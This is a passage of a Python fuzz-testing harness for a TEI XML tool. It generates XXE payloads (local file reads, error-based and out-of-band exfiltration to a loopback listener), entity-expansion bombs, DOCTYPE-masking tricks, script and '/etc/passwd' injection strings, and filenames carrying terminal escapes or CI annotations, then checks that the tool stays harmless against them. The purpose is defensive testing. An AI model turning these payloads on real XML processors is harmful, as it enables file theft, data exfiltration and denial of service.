"""A seeded fuzzer for "untrusted TEI stays harmless": hostile inputs, the harness that runs them.

The generator makes, from one ``random.Random(seed)``, TEI files (defusedxml's catalogue of
XML attacks, DOCTYPE-masking evasions, the same in other encodings, malformed files, hostile
file names), hostile schemas for ``--schema`` (.rng, .rnc, .xsd, .sch) and plain-text sources
for ``teitool encode``. The harness runs them through the library in forked children (fast, and
a hang or a crash is one failure, not a stuck test run) and through the CLI for a sample
(tracebacks, exit codes and what reaches the terminal are CLI behaviour), and checks for each:

* no traceback, an exit code in {0, 1, 2}, no hang (a timeout per call);
* no connection to a loopback listener that every URL in the inputs points at;
* no byte of a secret file (a random token, in a folder outside the inputs) in any output;
* the verdict, where it is known by construction: a file with an entity declaration or an
  external DTD is never valid; a malformed file is invalid with a well-formed error; in every
  batch, valid controls stay valid and sentinels (a root no schema allows) stay invalid, at
  the start, in the middle and at the end: one bad file must not change another's verdict.

Every failure is collected (not just the first); :meth:`FuzzResult.summary` lists them by
input class with the seed and the path of a copy of the input. ``tests/test_fuzz.py`` runs one
quick round; ``bench/fuzz.py --seconds 600`` runs rounds until the time is up.
"""

from __future__ import annotations

import codecs
import contextlib
import json
import multiprocessing
import os
import random
import re
import secrets
import shutil
import signal
import socket
import subprocess
import sys
import tempfile
import threading
import time
import traceback
from collections import Counter
from collections.abc import Callable, Iterator, Sequence
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

from conftest import FIXTURES, TEI_ALL_RNG

VALID_LETTER = FIXTURES / "validate" / "valid" / "letters" / "L1932-06-05-stalin-kaganovich.xml"
REGISTER = FIXTURES / "validate" / "valid" / "persons.xml"
LETTER_SOURCES = FIXTURES / "letters" / "unseen"
ENCODE_REGISTER = LETTER_SOURCES / "persons.xml"
CHAPTER_SOURCES = FIXTURES / "chapters"

#: The seed CI uses; ``TEITOOL_FUZZ_SEED`` overrides it.
DEFAULT_SEED = 20240611
FORMATS = ("text", "json", "junit", "github", "sarif")
TEI_NS = "http://www.tei-c.org/ns/1.0"
RNG_NS = "http://relaxng.org/ns/structure/1.0"
#: Generous: the slowest honest call (a batch of ~150 files with jing) takes a few seconds.
CALL_TIMEOUT = 30.0
BATCH_TIMEOUT = 90.0
#: A call slower than this is listed in the summary (a hang in the making on a slower machine).
SLOW = 10.0

EXTERNAL_DTD = "it has an external DTD"

# Verdicts known by construction.
ANY = "any"  # nothing known: only harmlessness is checked
VALID = "valid"  # a control: valid against every schema configuration of the run
INVALID = "invalid"  # never reported valid (an entity declaration, a wrong root)
#: Never silently valid: a warning at least (an external DTD, which is not read and could
#: change what the document means).
WARNED = "warned"
MALFORMED = "malformed"  # invalid with an error of the well-formed layer (exit 1)

#: What a report or a terminal must never receive raw: C0 controls but tab and line feed, DEL,
#: C1 controls (a terminal may obey U+009B as CSI) and lone surrogates.
RAW_CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\ud800-\udfff]")
#: The first line of /etc/passwd: sources ask for it with #read("/etc/passwd").
PASSWD = "root:x:0:"
#: What Java and libxml2 say when something tried to reach a host.
NETWORK_ATTEMPT = re.compile(
    r"java\.net\.\w+Exception|Connection refused|UnknownHost|sun\.net\.ftp|ftp://"
    r"|failed to load (?:HTTP|external entity \"http)|Name or service not known", re.IGNORECASE)
#: Classes whose DOCTYPE a scanner could misread: also checked alone against jing.
DOCTYPE_CLASSES = frozenset({
    "mask-comment", "mask-pi", "doctype-case", "doctype-whitespace", "internal-subset-quoted",
    "local-dtd-entity", "undeclared-entity", "external-dtd"})
#: The key of a generated input, as it appears in the URLs that point at the listener.
KEY = re.compile(r"\b([dse]\d{4})\b")


class FuzzSeed(UserWarning):
    """Carries the seed of a fuzz run into pytest's warnings summary, passed or failed."""


# --- the listener and the secret ------------------------------------------------------------


@dataclass
class Connection:
    """One connection the listener accepted, and what the client said first."""

    at: float
    said: str = ""

    def key(self) -> str | None:
        match = KEY.search(self.said)
        return match.group(1) if match else None


class Listener:
    """A TCP server on 127.0.0.1 (an ephemeral port, a thread) that must never be connected to.

    It answers HTTP with a 404 at once, so that a fetcher fails fast instead of waiting for a
    timeout, and plays the first steps of FTP (Java turns ``file://host/x`` into FTP), so that
    the path a client asks for, which names the generated input, is recorded either way.
    """

    def __init__(self) -> None:
        self._sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        self._sock.bind(("127.0.0.1", 0))  # loopback only: nothing here may reach the network
        self._sock.listen(64)
        self._sock.settimeout(0.2)
        self.port: int = self._sock.getsockname()[1]
        self._seen: list[Connection] = []
        self._handlers: list[threading.Thread] = []
        self._lock = threading.Lock()
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._serve, name="fuzz-listener", daemon=True)

    def __enter__(self) -> Listener:
        self._thread.start()
        return self

    def __exit__(self, *exc: object) -> None:
        self._stop.set()
        self._thread.join(2)
        self._sock.close()

    def _serve(self) -> None:
        while not self._stop.is_set():
            try:
                conn, _ = self._sock.accept()
            except TimeoutError:
                continue
            except OSError:
                return
            record = Connection(time.time())
            with self._lock:
                self._seen.append(record)
            handler = threading.Thread(target=self._handle, args=(conn, record), daemon=True)
            handler.start()
            with self._lock:
                self._handlers.append(handler)

    @staticmethod
    def _handle(conn: socket.socket, record: Connection) -> None:
        lines: list[str] = []
        with conn:
            conn.settimeout(0.5)
            try:
                data = _read_some(conn)
                if data:
                    lines.append(data.decode("latin-1"))
                    conn.sendall(b"HTTP/1.0 404 Not Found\r\nContent-Length: 0\r\n"
                                 b"Connection: close\r\n\r\n")
                else:  # silent client: a server-speaks-first protocol (FTP)
                    conn.sendall(b"220 fuzz listener\r\n")
                    for _ in range(8):
                        data = _read_some(conn)
                        if not data:
                            break
                        lines.append(data.decode("latin-1"))
                        verb = data[:4].upper()
                        reply = {b"USER": b"331 ok\r\n", b"PASS": b"230 ok\r\n"}.get(
                            verb, b"550 no\r\n")
                        conn.sendall(reply)
            except OSError:
                pass
        record.said = " | ".join(line.strip() for line in lines)[:2000]

    def take(self) -> list[Connection]:
        """The connections since the last call (after letting their handlers finish)."""
        with self._lock:
            handlers = list(self._handlers)
        for handler in handlers:
            handler.join(5)
        with self._lock:
            seen, self._seen = self._seen, []
            self._handlers = [h for h in self._handlers if h.is_alive()]
        return seen


def _read_some(conn: socket.socket) -> bytes:
    data = b""
    with contextlib.suppress(TimeoutError):
        while b"\n" not in data and len(data) < 8192:
            chunk = conn.recv(4096)
            if not chunk:
                break
            data += chunk
    return data


@dataclass
class Secret:
    """Files a hostile input tries to read, in a folder of their own outside the inputs' folder.

    Each holds the same random token; the token showing in any output means a file was read.
    """

    folder: Path
    token: str
    txt: Path
    xml: Path
    dtd: Path

    @classmethod
    def create(cls) -> Secret:
        folder = Path(tempfile.mkdtemp(prefix="teitool-fuzz-secret-"))
        token = "TEITOOLSECRET" + secrets.token_hex(12)
        txt, xml, dtd = folder / "secret.txt", folder / "secret.xml", folder / "secret.dtd"
        txt.write_text(token + "\n")
        xml.write_text(f"<s>{token}</s>\n")
        # A local DTD that, if loaded, gives &leak; the token's value (text and attributes).
        dtd.write_text(f'<!ENTITY leak "{token}">\n<!ATTLIST TEI leaked CDATA "{token}">\n')
        return cls(folder, token, txt, xml, dtd)

    def remove(self) -> None:
        shutil.rmtree(self.folder, ignore_errors=True)

    def leaked(self, text: str | bytes | None) -> str | None:
        """What of the secrets ``text`` holds, in words, or None."""
        if not text:
            return None
        if isinstance(text, bytes):
            text = text.decode("utf-8", "replace")
        low = text.lower()
        if self.token.lower() in low:
            return "the secret file's content"
        if PASSWD in text:
            return "the content of /etc/passwd"
        return None


# --- forked children: in-process speed, subprocess safety -----------------------------------


@dataclass
class Outcome:
    """What one call in a child gave: a value, a refusal (TeitoolError), a traceback or worse."""

    status: str  # ok | refused | raised | timeout | crashed
    value: Any = None
    message: str = ""
    detail: str = ""
    exit_code: int = 0
    output: str = ""  # what the child wrote on its file descriptors 1 and 2
    seconds: float = 0.0

    @property
    def broken(self) -> bool:
        return self.status in ("raised", "timeout", "crashed")

    def describe(self) -> str:
        if self.status == "refused":
            return f"refused the run (exit {self.exit_code}): {self.message}"
        if self.status == "raised":
            return f"traceback: {self.message}\n{_indent(self.detail)}"
        if self.status == "timeout":
            return f"hang: no result after {self.seconds:.0f} s"
        if self.status == "crashed":
            return f"the process died ({self.message})"
        return "ok"


def _child_main(fn: Callable[[Any], Any], items: Sequence[Any], conn: Any, capture: str) -> None:
    os.setsid()  # its own process group: a timeout kills it and the JVMs it started
    fd = os.open(capture, os.O_WRONLY | os.O_CREAT | os.O_TRUNC, 0o600)
    os.dup2(fd, 1)
    os.dup2(fd, 2)
    sys.stdout, sys.stderr = sys.__stdout__, sys.__stderr__
    from tei.errors import TeitoolError

    with open(capture, "rb") as captured:
        for item in items:
            started = time.perf_counter()
            try:
                outcome = Outcome("ok", fn(item))
            except TeitoolError as exc:
                outcome = Outcome("refused", message=str(exc), exit_code=exc.exit_code)
            except BaseException as exc:  # any escape is what is looked for
                outcome = Outcome("raised", message=f"{type(exc).__name__}: {exc}"[:2000],
                                  detail=traceback.format_exc()[-4000:])
            for stream in (sys.stdout, sys.stderr):
                with contextlib.suppress(Exception):
                    stream.flush()
            outcome.output = captured.read().decode("utf-8", "replace")[-20000:]
            outcome.seconds = time.perf_counter() - started
            conn.send(outcome)
    conn.close()


def isolated(fn: Callable[[Any], Any], items: Sequence[Any], timeout: float) -> list[Outcome]:
    """``fn(item)`` for each item in a forked child; one :class:`Outcome` per item, in order.

    A hang (no result within ``timeout``) or a crash ends that child; the items after it go to
    a new one, so one bad item costs one outcome.
    """
    context = multiprocessing.get_context("fork")  # fn may be a closure; tei is imported once
    outcomes: list[Outcome] = []
    pending = list(items)
    while pending:
        receive, send = context.Pipe(duplex=False)
        with tempfile.NamedTemporaryFile(prefix="teitool-fuzz-out-", delete=False) as capture:
            pass
        child = context.Process(target=_child_main, args=(fn, pending, send, capture.name))
        child.start()
        send.close()
        done = 0
        try:
            while done < len(pending):
                started = time.perf_counter()
                if not receive.poll(timeout):
                    _kill(child)
                    outcomes.append(Outcome("timeout", seconds=time.perf_counter() - started))
                    done += 1
                    break
                try:
                    outcomes.append(receive.recv())
                except (EOFError, OSError):
                    child.join(5)
                    outcomes.append(Outcome("crashed", message=f"exit status {child.exitcode}",
                                            output=_tail(capture.name)))
                    done += 1
                    break
                done += 1
        finally:
            receive.close()
            child.join(5)
            if child.is_alive():
                _kill(child)
            with contextlib.suppress(OSError):
                os.unlink(capture.name)
        pending = pending[done:]
    return outcomes


def _kill(child: multiprocessing.process.BaseProcess) -> None:
    with contextlib.suppress(OSError, TypeError):
        os.killpg(child.pid, signal.SIGKILL)  # type: ignore[arg-type]
    with contextlib.suppress(OSError):
        child.kill()
    child.join(5)


def _tail(path: str) -> str:
    try:
        return Path(path).read_bytes()[-4000:].decode("utf-8", "replace")
    except OSError:
        return ""


def _indent(text: str, lines: int = 8) -> str:
    kept = text.rstrip().splitlines()[-lines:]
    return "\n".join("        " + line for line in kept)


# --- what is generated ----------------------------------------------------------------------


@dataclass
class Case:
    """A generated TEI input file for ``teitool validate``."""

    cls: str
    key: str
    name: bytes  # the file name: bytes, since it need not be UTF-8
    data: bytes
    expect: str = ANY
    note: str = ""
    why: str = ""  # why it must be invalid, in words
    own_folder: bool = False  # hostile names get a folder of their own, to keep them exact
    heavy: bool = False  # big or deep: checked in a batch of its own (a hang stays attributable)
    path: str = ""  # where it was written (os.fsdecode of the bytes path)

    @property
    def verdict(self) -> str:
        return self.expect


@dataclass
class SchemaCase:
    """A hostile schema for ``--schema``: its files (the first is the schema), its engine."""

    cls: str
    key: str
    files: dict[str, bytes]
    engine: str = "auto"  # auto | jing | lxml (RELAX NG only)
    note: str = ""
    path: str = ""


@dataclass
class SourceCase:
    """A plain-text source for ``teitool encode``."""

    cls: str
    key: str
    data: bytes
    kind: str = "auto"
    name: bytes = b""
    note: str = ""
    path: str = ""


@dataclass
class Config:
    """A schema configuration the batch of inputs is validated against."""

    name: str
    schemas: tuple[str, ...] = ()
    builtin: bool = False
    engine: str = "auto"


# Benign user schemas: they accept any TEI document (a TEI-namespace root, a type of "letter"
# or "fuzz"), so that what makes a hostile input invalid is the input, not the schema. The
# Schematron one echoes the text of every p and date as info: a resolved entity would show.

RNG = """<?xml version="1.0" encoding="UTF-8"?>
{prolog}<grammar xmlns="http://relaxng.org/ns/structure/1.0"{grammar_attrs}>
  {include}
  <start>
    <element>
      <nsName ns="http://www.tei-c.org/ns/1.0"/>
      <optional><attribute name="type"><choice><value>letter</value><value>fuzz</value>{value}</choice></attribute></optional>
      <ref name="content"/>
    </element>
  </start>
  <define name="content">
    <zeroOrMore>
      <choice>
        <attribute><anyName><except><name>type</name></except></anyName></attribute>
        <text/>
        <ref name="any"/>
      </choice>
    </zeroOrMore>
  </define>
  <define name="any">
    <element>
      <anyName/>
      <zeroOrMore><choice><attribute><anyName/></attribute><text/><ref name="any"/></choice></zeroOrMore>
    </element>
  </define>
</grammar>
"""

RNC = """default namespace tei = "http://www.tei-c.org/ns/1.0"
{include}
start = element tei:* {{ attribute type {{ "letter" | "fuzz" }}?, content }}{external}
content = (attribute * - type {{ text }} | text | any)*
any = element * {{ (attribute * {{ text }} | text | any)* }}
"""

XSD = """<?xml version="1.0" encoding="UTF-8"?>
{prolog}<xs:schema xmlns:xs="http://www.w3.org/2001/XMLSchema" targetNamespace="http://www.tei-c.org/ns/1.0" elementFormDefault="qualified"{schema_attrs}>
  {include}
  <xs:element name="TEI">
    <xs:complexType mixed="true">
      <xs:sequence><xs:any processContents="skip" minOccurs="0" maxOccurs="unbounded"/></xs:sequence>
      <xs:attribute name="type">
        <xs:simpleType>
          <xs:restriction base="xs:string"><xs:enumeration value="letter"/><xs:enumeration value="fuzz"/>{enum}</xs:restriction>
        </xs:simpleType>
      </xs:attribute>
      <xs:anyAttribute processContents="skip"/>
    </xs:complexType>
  </xs:element>
</xs:schema>
"""

SCH = """<?xml version="1.0" encoding="UTF-8"?>
<sch:schema xmlns:sch="http://purl.oclc.org/dsdl/schematron" queryBinding="{binding}">
  <sch:ns prefix="tei" uri="http://www.tei-c.org/ns/1.0"/>
  {top}
  <sch:pattern id="fuzz">
    <sch:rule context="/*">
      <sch:assert test="namespace-uri() = 'http://www.tei-c.org/ns/1.0'" id="root-tei">the root is a TEI element</sch:assert>
      {checks}
    </sch:rule>
    <sch:rule context="tei:p | tei:date">
      <sch:report test="true()" role="info" id="echo">seen: <sch:value-of select="substring(normalize-space(.), 1, 200)"/></sch:report>
      <sch:report test="@when" role="info" id="echo-when">when: <sch:value-of select="@when"/></sch:report>
    </sch:rule>
  </sch:pattern>
</sch:schema>
"""

MINIMAL_TEI = (
    '<?xml version="1.0" encoding="UTF-8"?>\n'
    '<TEI xmlns="http://www.tei-c.org/ns/1.0" type="{type}"><teiHeader><fileDesc><titleStmt>'
    "<title>t</title></titleStmt><publicationStmt><p>p</p></publicationStmt><sourceDesc><p>s</p>"
    "</sourceDesc></fileDesc></teiHeader><text><body>\n<p>The text, "
    '<date when="1932-06-05">June 5</date>.</p>\n</body></text></TEI>\n'
)

WRONG_ROOT = '<?xml version="1.0" encoding="UTF-8"?>\n<foo xmlns="urn:fuzz"><p>x</p></foo>\n'

#: Encodings a hostile document is re-encoded in: BOM, codec, the name its declaration gives.
ENCODINGS: dict[str, tuple[bytes, str, str]] = {
    "utf-8-bom": (codecs.BOM_UTF8, "utf-8", "UTF-8"),
    "utf-16le-bom": (codecs.BOM_UTF16_LE, "utf-16-le", "UTF-16"),
    "utf-16be-bom": (codecs.BOM_UTF16_BE, "utf-16-be", "UTF-16"),
    "utf-16le-nobom": (b"", "utf-16-le", "UTF-16"),
    "utf-32le-bom": (codecs.BOM_UTF32_LE, "utf-32-le", "UTF-32"),
    "utf-32be-bom": (codecs.BOM_UTF32_BE, "utf-32-be", "UTF-32"),
    "latin-1": (b"", "latin-1", "ISO-8859-1"),
    "ebcdic": (b"", "cp037", "IBM037"),
    "utf-7": (b"", "utf-7", "UTF-7"),
}

HOSTILE_NAMES = (
    b"ctl-\x01-start.xml",
    b"esc-\x1b[31mred\x1b[0m.xml",
    b"new\nline.xml",
    b"cr\rreturn.xml",
    b"tab\tname.xml",
    b"nonutf8-\xff\xfe.xml",
    b"latin1-caf\xe9.xml",
    b"a:1:1: error: x.xml",
    b"::error file=x.xml,line=1::pwned.xml",
    b"%0A%25,percent.xml",
    b"quote\"apos'.xml",
    b"<lt>&amp;.xml",
    b"rlo-\xe2\x80\xae.lmx.xml",
    b"nel-\xc2\x85-c1.xml",
    b"ls-\xe2\x80\xa8-sep.xml",
    b" leading space.xml",
    b"*?[glob].xml",
    b"x" * 200 + b".xml",
)

#: Text a source may carry that must come out of encode as text, never as markup or a read.
INJECTIONS = (
    "<script>alert('x')</script>",
    "<img src=x onerror=alert('x')>",
    '#read("/etc/passwd")',
    '#read("{secret}")',
    '<xi:include href="file://{secret}" parse="text"/>',
    '<!DOCTYPE x [<!ENTITY e SYSTEM "file://{secret}">]>',
    "&e; &amp; &#x41; &lt;",
    "]]> <![CDATA[ x ]]>",
    "<?php echo 'x' ?>",
    "<!-- a comment -->",
    "</TEI></text>",
    "{{7*7}} ${{7*7}} \\input{{/etc/passwd}}",
    '<!DOCTYPE TEI SYSTEM "{url}">',
)
#: Markup that, written unescaped into TEI, would be live; checked for in the written bytes.
LIVE_MARKUP = (b"<script", b"<img", b"<xi:include", b"<!DOCTYPE", b"<!ENTITY", b"<?php", b"<![CDATA[")


class Generator:
    """Makes one round of inputs from ``seed``; every URL points at the listener's port."""

    def __init__(self, seed: int, port: int, secret: Secret, inputs: Path, *,
                 scale: str = "quick") -> None:
        self.rng = random.Random(seed)
        self.port = port
        self.secret = secret
        self.inputs = inputs
        self.full = scale == "full"
        self._count: Counter[str] = Counter()
        self.letter = VALID_LETTER.read_text(encoding="utf-8").split("\n", 1)[1]
        self.letter_bytes = VALID_LETTER.read_bytes()

    def key(self, prefix: str) -> str:
        self._count[prefix] += 1
        return f"{prefix}{self._count[prefix]:04d}"

    def url(self, key: str, tail: str = "x") -> str:
        return f"http://127.0.0.1:{self.port}/{key}/{tail}"

    def many(self, quick: int, full: int) -> int:
        return full if self.full else quick

    # -- TEI documents ---------------------------------------------------------------------

    def tei(self, prolog: str = "", refs: Sequence[str] = (), when: str | None = None,
            root_attrs: str = "", base: str | None = None) -> str:
        """The valid letter (or ``base``) with a prolog, text in its first p, a date's @when."""
        body = base if base is not None else self.letter
        if refs:
            body = body.replace("<p>The ", "<p>" + "".join(refs) + " The ", 1)
        if when is not None:
            body = re.sub(r'<date when="[^"]*">', f'<date when="{when}">', body, count=1)
        if root_attrs:
            body = body.replace("<TEI ", f"<TEI {root_attrs} ", 1)
        return '<?xml version="1.0" encoding="UTF-8"?>\n' + prolog + body

    def base(self) -> str | None:
        """The body a hostile document is built on: mostly the letter, sometimes a minimal TEI."""
        return self.rng.choice([None, None, MINIMAL_TEI.format(type="fuzz").split("\n", 1)[1]])

    def documents(self) -> list[Case]:
        """All TEI inputs of the round. Names start with their keys, so a batch (in sorted
        order) has a control and a sentinel at its start, in its middle and at its end."""
        cases = self._guards()
        for make in (self._catalogue, self._masking):
            cases += make()
        cases += self._guards()
        cases += self._malformed()
        cases += self._encodings([c for c in cases
                                   if c.expect in (INVALID, WARNED) and not c.heavy])
        cases += self._hostile_names()
        return cases + self._guards()

    def _guards(self) -> list[Case]:
        """A control (the valid letter: valid against every configuration) and a sentinel (a
        root no schema allows: invalid only once checked). A bad file before them in a batch
        must change neither verdict; a valid sentinel means the checker stopped early."""
        key = self.key("d")
        control = Case("control", key, f"{key}-control.xml".encode(), self.letter_bytes, VALID,
                       "the valid letter fixture")
        key = self.key("d")
        sentinel = Case("sentinel", key, f"{key}-sentinel.xml".encode(), WRONG_ROOT.encode(),
                        INVALID, "well-formed, a root no schema allows",
                        why="its root is not TEI (a sentinel: it went unchecked)")
        return [control, sentinel]

    def _case(self, cls: str, text: str | bytes, expect: str, note: str, key: str,
              heavy: bool = False) -> Case:
        data = text.encode("utf-8") if isinstance(text, str) else text
        why = why_invalid(data.decode("utf-8", "replace"))
        if expect == INVALID and why == EXTERNAL_DTD:
            expect = WARNED  # a DTD that is not read is said, and is no error of the document
        return Case(cls, key, f"{key}-{cls}.xml".encode(), data, expect, note, why=why,
                    heavy=heavy)

    def _catalogue(self) -> list[Case]:
        """defusedxml's catalogue, each in one or more variants."""
        rng, secret = self.rng, self.secret
        out: list[Case] = []
        rel = os.path.relpath(secret.txt, self.inputs)
        for _ in range(self.many(1, 2)):
            depth = rng.randint(5, 10)
            lines = ['<!ENTITY lol0 "lol">'] + [
                f'<!ENTITY lol{n} "{f"&lol{n - 1};" * 10}">' for n in range(1, depth + 1)]
            key = self.key("d")
            out.append(self._case("billion-laughs", self.tei(
                "<!DOCTYPE TEI [\n" + "\n".join(lines) + "\n]>\n", [f"&lol{depth};"]),
                INVALID, f"entities nested {depth} deep, 10 each", key))
        for _ in range(self.many(1, 2)):
            size, refs = rng.randint(5_000, 20_000), rng.randint(500, 2_000)
            key = self.key("d")
            out.append(self._case("quadratic-blowup", self.tei(
                f'<!DOCTYPE TEI [<!ENTITY a "{"A" * size}">]>\n', ["&a;" * refs]),
                INVALID, f"a {size}-character entity used {refs} times", key))
        targets = [f"file://{secret.txt}", str(secret.txt), rel]
        for target in rng.sample(targets, self.many(2, 3)):
            key = self.key("d")
            public = rng.random() < 0.3
            decl = (f'<!ENTITY xxe PUBLIC "-//fuzz//x//EN" "{target}">' if public
                    else f'<!ENTITY xxe SYSTEM "{target}">')
            out.append(self._case("xxe-file", self.tei(f"<!DOCTYPE TEI [{decl}]>\n", ["&xxe;"],
                                                       base=self.base()),
                                  INVALID, f"an external entity reading {target}", key))
        key = self.key("d")
        out.append(self._case("xxe-http", self.tei(
            f'<!DOCTYPE TEI [<!ENTITY xxe SYSTEM "{self.url(key, "xxe")}">]>\n', ["&xxe;"],
            base=self.base()),
            INVALID, "an external entity on the listener", key))
        for target in (f"file://{secret.dtd}", str(secret.dtd)):
            key = self.key("d")
            out.append(self._case("local-dtd-entity", self.tei(
                f'<!DOCTYPE TEI SYSTEM "{target}">\n', ["&leak;"], when="&leak;"),
                INVALID, "a local DTD declaring &leak; as the secret", key))
        for _ in range(self.many(2, 3)):
            key = self.key("d")
            target = rng.choice([self.url(key, "evil.dtd")] * 3 + [f"file://{secret.txt}"])
            doctype = rng.choice([f'<!DOCTYPE TEI SYSTEM "{target}">',
                                  f'<!DOCTYPE TEI PUBLIC "-//TEI//DTD fuzz//EN" "{target}">'])
            out.append(self._case("external-dtd", self.tei(doctype + "\n"), INVALID,
                                  f"the valid letter with {doctype}", key))
        key = self.key("d")
        out.append(self._case("parameter-entity", self.tei(
            f'<!DOCTYPE TEI [\n<!ENTITY % p SYSTEM "{self.url(key, "p.dtd")}">\n%p;\n]>\n',
            base=self.base()),
            INVALID, "an external parameter entity", key))
        key = self.key("d")
        out.append(self._case("parameter-entity-error", self.tei(
            "<!DOCTYPE TEI [\n"
            f'<!ENTITY % file SYSTEM "file://{secret.txt}">\n'
            "<!ENTITY % eval \"<!ENTITY &#x25; error SYSTEM 'file:///nonexistent/%file;'>\">\n"
            "%eval;\n%error;\n]>\n"),
            INVALID, "error-based XXE: the secret in a file name an error message shows", key))
        key = self.key("d")
        out.append(self._case("parameter-entity-oob", self.tei(
            "<!DOCTYPE TEI [\n"
            f'<!ENTITY % file SYSTEM "file://{secret.txt}">\n'
            f"<!ENTITY % eval \"<!ENTITY &#x25; exfil SYSTEM '{self.url(key, 'oob')}?d=%file;'>\">\n"
            "%eval;\n%exfil;\n]>\n"),
            INVALID, "out-of-band XXE: the secret sent to the listener", key))
        for target, parse in rng.sample([(f"file://{secret.txt}", "text"), (str(secret.xml), "xml"),
                                         ("URL", "text")], self.many(2, 3)):
            key = self.key("d")
            href = self.url(key, "inc") if target == "URL" else target
            out.append(self._case("xinclude", self.tei("", [
                f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{href}" '
                f'parse="{parse}"/>'], base=self.base()), ANY, f"XInclude of {href}", key))
        key = self.key("d")
        xsi = 'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" '
        out.append(self._case("xsi-schema-location", self.tei(root_attrs=(
            xsi + f'xsi:schemaLocation="{TEI_NS} {self.url(key, "tei.xsd")}"')), ANY,
            "xsi:schemaLocation on the listener", key))
        key = self.key("d")
        out.append(self._case("xsi-schema-location", self.tei(root_attrs=(
            xsi + f'xsi:noNamespaceSchemaLocation="{self.url(key, "tei.xsd")}"')), ANY,
            "xsi:noNamespaceSchemaLocation on the listener", key))
        for typ in ("http://relaxng.org/ns/structure/1.0", "http://purl.oclc.org/dsdl/schematron"):
            key = self.key("d")
            out.append(self._case("xml-model", self.tei(
                f'<?xml-model href="{self.url(key, "tei.rng")}" type="application/xml" '
                f'schematypens="{typ}"?>\n<?xml-stylesheet type="text/xsl" '
                f'href="{self.url(key, "s.xsl")}"?>\n'), ANY, "xml-model and xml-stylesheet", key))
        return out

    def _masking(self) -> list[Case]:
        """DOCTYPEs hidden from a scanner that looks for the first "<!DOCTYPE ...>"."""
        out: list[Case] = []
        variants: list[tuple[str, Callable[[str], str], str]] = [
            ("mask-comment", lambda u: f'<!-- <!DOCTYPE x> -->\n<!DOCTYPE TEI SYSTEM "{u}">\n',
             "a commented-out DOCTYPE before the real one"),
            ("mask-comment", lambda u: f'<!-- <!DOCTYPE x [ ]> > -->\n<!DOCTYPE TEI SYSTEM "{u}">\n',
             "a commented-out DOCTYPE with a subset before the real one"),
            ("mask-pi", lambda u: f'<?x <!DOCTYPE y> ?>\n<!DOCTYPE TEI SYSTEM "{u}">\n',
             "a processing instruction holding a DOCTYPE before the real one"),
            ("doctype-case", lambda u: f'<!doctype TEI SYSTEM "{u}">\n', "a lowercase DOCTYPE"),
            ("doctype-whitespace", lambda u: f'<!DOCTYPE\tTEI\r\n  SYSTEM\n"{u}"\n>\n',
             "a DOCTYPE with tabs and line breaks"),
            ("doctype-whitespace", lambda u: f"<!DOCTYPE TEI PUBLIC '-//x//EN' '{u}' >\n",
             "a DOCTYPE with single quotes"),
            ("internal-subset-quoted", lambda u: (
                f'<!DOCTYPE TEI SYSTEM "{u}" [\n<!-- ] > -->\n<!ATTLIST TEI n CDATA "]>">\n'
                "<?pi ]> ?>\n]>\n"), "an internal subset with ] and > in quotes and comments"),
            ("internal-subset-quoted", lambda u: (
                f"<!DOCTYPE TEI [\n<!ATTLIST TEI n CDATA ']>'>\n]>\n"
                f'<!-- --><!DOCTYPE TEI SYSTEM "{u}">\n'),
             "a quoted ]> in a subset, then a second DOCTYPE"),
        ]
        for cls, make, note in variants:
            key = self.key("d")
            url = self.url(key, "evil.dtd")
            out.append(self._case(cls, self.tei(make(url)), INVALID, note, key))
        key = self.key("d")
        out.append(self._case("mask-comment", self.tei(
            f'<!-- <!DOCTYPE x> -->\n<!DOCTYPE TEI SYSTEM "file://{self.secret.dtd}">\n',
            ["&leak;"], when="&leak;"), INVALID,
            "a masked DOCTYPE loading the local secret DTD, &leak; used", key))
        key = self.key("d")
        out.append(self._case("undeclared-entity", self.tei(
            f'<!DOCTYPE TEI SYSTEM "{self.url(key, "evil.dtd")}">\n', ["&undeclared;"]),
            INVALID, "an undeclared entity after an external DOCTYPE", key))
        return out

    def _encodings(self, hostile: list[Case]) -> list[Case]:
        """The hostile documents again in other encodings (and a wrong root, to see that the
        schemas still run on them)."""
        rng = self.rng
        out: list[Case] = []
        key = self.key("d")
        out.append(self._case("wrong-root", WRONG_ROOT, INVALID, "a root that is not TEI", key))
        pe = next(c for c in hostile if c.cls == "parameter-entity")
        picks = [(pe, "utf-16le-bom"), (pe, "utf-16be-bom")]
        picks += [(out[0], name) for name in ("utf-16le-bom", "utf-16be-bom", "utf-32le-bom")]
        names = list(ENCODINGS)
        for case in rng.sample(hostile, min(len(hostile), self.many(10, 24))):
            picks.append((case, rng.choice(names)))
        for name in names:  # every encoding at least once
            picks.append((rng.choice(hostile), name))
        picks.append((None, rng.choice(["utf-16le-bom", "utf-16be-bom"])))  # the valid letter
        for case, name in picks:
            key = self.key("d")
            text = (case.data.decode("utf-8") if case is not None
                    else self.letter_bytes.decode("utf-8"))
            if case is not None and KEY.search(text):  # its URLs name the new key
                text = text.replace(f"/{case.key}/", f"/{key}/")
            origin = f"{case.cls} {case.key}" if case is not None else "the valid letter"
            out.append(Case(f"enc-{name}", key, f"{key}-{name}.xml".encode(),
                            transcode(text, name), case.expect if case is not None else ANY,
                            f"{origin} in {name}", why=why_invalid(text)))
        return out

    def _malformed(self) -> list[Case]:
        rng, data = self.rng, self.letter_bytes
        out: list[Case] = []
        end = data.rindex(b"</TEI>") + len(b"</TEI>")
        for _ in range(self.many(4, 8)):
            cut = rng.randrange(1, end)
            key = self.key("d")
            out.append(self._case("truncated", data[:cut], MALFORMED, f"cut at byte {cut}", key))
        for _ in range(self.many(4, 8)):
            flipped = bytearray(data)
            spots = [rng.randrange(len(flipped)) for _ in range(rng.randint(1, 5))]
            for spot in spots:
                flipped[spot] = rng.randrange(256)
            key = self.key("d")
            out.append(self._case("byte-flip", bytes(flipped), ANY, f"bytes changed at {spots}", key))
        fixed: list[tuple[str, bytes, str, str]] = [
            ("empty", b"", MALFORMED, "an empty file"),
            ("empty", b" \n\t\n", MALFORMED, "only white space"),
            ("binary", rng.randbytes(self.many(2_000, 20_000)), MALFORMED, "random bytes"),
            ("nul-byte", data.replace(b"<p>The ", b"<p>\x00The ", 1), MALFORMED, "a NUL in a p"),
            ("nul-byte", data.replace(b"</body>", b"<p>" + b"x" * 5000 + b"\x00</p></body>"),
